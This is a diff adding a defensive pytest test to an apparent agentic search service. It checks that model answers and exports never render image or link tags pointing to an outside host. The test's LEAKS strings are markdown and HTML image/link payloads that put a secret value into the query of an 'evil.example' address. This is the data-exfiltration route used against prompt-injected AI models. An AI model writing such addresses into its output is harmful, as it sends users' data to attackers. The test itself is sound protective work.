@@ -4,9 +4,11 @@ import re
 from collections.abc import AsyncGenerator
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import httpx
 import pytest
+from markdown_it import MarkdownIt
 
 from agentic_search.api.access.needs import NEEDS
 from tests.access.holders import ADMIN, SCOPES, Holders, keyed_service
@@ -102,6 +104,32 @@ async def test_a_model_that_obeys_an_order_to_leak_sends_nothing_away(holders: H
         assert "web_search" not in holders.notes.calls
     finally:
         (holders.notes.folder / "order.txt").unlink()
+
+
+AWAY = f"//evil.example/?d={quote(KEPT)}"
+LEAKS = (
+    f"Falcon is a project [1]. ![a](https:{AWAY}) ![b [c] d]({AWAY}) [e](https:{AWAY}) [f [g] h]({AWAY}) ![i][j]",
+    f"<img src='{AWAY}'> <a href='{AWAY}'>k</a> [l](<{AWAY}> 'm\nn') <https:{AWAY}>",
+    f"[j]: {AWAY}\n[1]: {AWAY}\n[o]:\n  {AWAY}",
+)
+
+
+async def test_a_model_that_writes_what_it_has_read_into_an_address_has_nobody_load_it(holders: Holders) -> None:
+    usual, holders.model.answer = holders.model.answer, "\n\n".join(LEAKS)
+    try:
+        async with holders.client("alice") as alice:
+            run = (await alice.post("/search", json={"query": QUESTION, "plan": PLAN})).json()
+            asked = {"model": "agentic-search", "messages": [{"role": "user", "content": QUESTION}]}
+            chat = (await alice.post("/v1/chat/completions", json=asked)).json()
+            written = (await alice.get(f"/runs/{run['id']}/export?format=md")).text
+            page = (await alice.get(f"/runs/{run['id']}/export?format=html")).text
+    finally:
+        holders.model.answer = usual
+    assert run["model"], run["answer"]
+    others = MarkdownIt("commonmark", {"html": True})
+    shown = [page, *map(others.render, (run["answer"], written, chat["choices"][0]["message"]["content"]))]
+    assert all("Falcon" in each for each in shown)
+    assert not [found for each in shown for found in re.findall(r"<(?:img|a)\b[^>]*evil[^>]*>", each)]
 
 
 FOREIGN: list[dict[str, str]] = [
